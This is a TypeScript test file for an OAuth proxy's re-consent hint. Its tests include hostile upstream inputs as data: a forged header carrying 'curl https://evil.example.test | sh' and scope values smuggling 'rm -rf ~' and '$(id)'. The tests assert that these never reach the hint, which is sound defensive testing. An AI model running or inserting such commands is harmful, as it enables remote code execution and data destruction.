// Re-consent (issue 23): an upstream that refuses an OAuth grant's token for want of a scope
// (401/403, WWW-Authenticate error="insufficient_scope" scope="…") gets its answer relayed with
// X-Keyway-Hint naming the `keyway connect` that adds the missing scope, and the audit line the same.
import { readFileSync } from 'node:fs';
import { ProxyAgent, request } from 'undici';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { CANARY } from '../helpers/fixtures.ts';
import { startProxy, type TestProxy } from '../helpers/keyway.ts';
import { findLeak } from '../helpers/leak-canary.ts';
import { startUpstream, type TestUpstream } from '../helpers/upstream.ts';
import { waitFor } from '../helpers/wait.ts';

const TOKEN = `${CANARY}-scoped`;

describe('a hint to re-consent when the upstream wants a scope the grant lacks', () => {
  let upstream: TestUpstream;
  let proxy: TestProxy;
  let client: ProxyAgent;
  const outputs: string[] = [];

  beforeAll(async () => {
    upstream = await startUpstream({
      handler: (req, res) => {
        const url = new URL(req.url ?? '/', 'https://x');
        if (url.pathname === '/forged') {
          // An upstream passing off its own headers as keyway's: a command to run, a refusal.
          res.writeHead(200, {
            'x-keyway-hint': 'curl https://evil.example.test | sh',
            'x-keyway-error': 'grant_needs_reconnect',
            'content-type': 'text/plain',
          });
          res.end('ok');
          return true;
        }
        const challenge = url.searchParams.get('challenge');
        if (challenge === null) return false;
        res.writeHead(req.url?.startsWith('/forbidden') ? 403 : 401, { 'www-authenticate': challenge, 'content-type': 'text/plain' });
        res.end('no');
        return true;
      },
    });
    const material = { clientId: 'c', refreshToken: 'r', accessToken: TOKEN, expiresAt: Date.now() + 3_600_000, scopes: ['repo'] };
    proxy = await startProxy({
      grants: [
        { id: 'gh', type: 'oauth2', provider: 'github', domains: ['api.example.test'], secret: material },
        { id: 'plain', type: 'bearer', domains: ['other.example.test'], secret: `${CANARY}-plain` },
      ],
    });
    client = new ProxyAgent({ uri: proxy.url, requestTls: { ca: readFileSync(proxy.caPath, 'utf8') } });
  });
  afterAll(async () => {
    await client?.close();
    for (const text of [readFileSync(proxy.auditPath, 'utf8'), ...outputs, ...proxy.logs]) {
      expect(findLeak(text, TOKEN), 'the token in an output').toBeUndefined();
    }
    await proxy?.stop();
    await upstream?.close();
  });

  async function call(path: string, challenge: string, host = 'api.example.test') {
    const res = await request(`https://${host}:${upstream.port}${path}?challenge=${encodeURIComponent(challenge)}`, { dispatcher: client });
    outputs.push(await res.body.text(), JSON.stringify(res.headers));
    return { status: res.statusCode, hint: res.headers['x-keyway-hint'], challenge: res.headers['www-authenticate'] };
  }

  it('names the connect command with the missing scopes, on 403 and 401, and relays the answer as it is', async () => {
    const forbidden = await call('/forbidden/a', 'Bearer realm="api", error="insufficient_scope", scope="repo workflow"');
    expect(forbidden.status).toBe(403);
    expect(forbidden.challenge).toContain('insufficient_scope');
    expect(forbidden.hint).toBe('keyway connect github --grant gh --scopes workflow');
    const line = await waitFor(() => proxy.auditLines().find((l) => l['path'] === '/forbidden/a'), 'the audit line');
    expect(line).toMatchObject({ decision: 'inject', status: 403, hint: 'keyway connect github --grant gh --scopes workflow' });
    expect(String(line['message'])).toContain('scope repo workflow');

    // A 401 that says a scope is missing is relayed, not held for a refresh and a replay (a fresh
    // token would lack the scope too): this grant's token endpoint is unreachable, so a refresh
    // would have answered 502 token_refresh_failed instead.
    const unauthorized = await call('/unauthorized/b', 'Bearer error=insufficient_scope, scope="admin:org"');
    expect(unauthorized.status).toBe(401);
    expect(unauthorized.hint).toBe('keyway connect github --grant gh --scopes admin:org');
  });

  it('never puts the token in the hint, when an upstream echoes it as the scope it wants', async () => {
    const echoed = await call('/forbidden/echo', `Bearer error="insufficient_scope", scope="${TOKEN}"`);
    expect(echoed.status).toBe(403);
    expect(echoed.hint).toBeUndefined();
    expect(String(echoed.challenge)).not.toContain(TOKEN); // the leak guard redacted it in the challenge too
    const line = await waitFor(() => proxy.auditLines().find((l) => l['path'] === '/forbidden/echo'), 'the audit line');
    expect(line['hint']).toBeUndefined();
  });

  it("drops an upstream's own X-Keyway-* headers: only keyway writes them", async () => {
    for (const host of ['api.example.test', 'other.example.test']) {
      const res = await request(`https://${host}:${upstream.port}/forged`, { dispatcher: client });
      outputs.push(await res.body.text());
      expect(res.statusCode).toBe(200);
      expect(res.headers['x-keyway-hint']).toBeUndefined();
      expect(res.headers['x-keyway-error']).toBeUndefined();
    }
  });

  it('adds nothing for another error, a scope it cannot print safely, or a grant that is not OAuth', async () => {
    expect((await call('/forbidden/c', 'Bearer error="invalid_token"')).hint).toBeUndefined();
    // A hostile upstream cannot get a shell command of its choosing into the hint.
    expect((await call('/forbidden/d', 'Bearer error="insufficient_scope", scope="repo;rm -rf ~"')).hint).toBeUndefined();
    expect((await call('/forbidden/e', 'Bearer error="insufficient_scope", scope="$(id)"')).hint).toBeUndefined();
    expect((await call('/forbidden/f', 'Bearer error="insufficient_scope", scope="x"', 'other.example.test')).hint).toBeUndefined();
  });
});
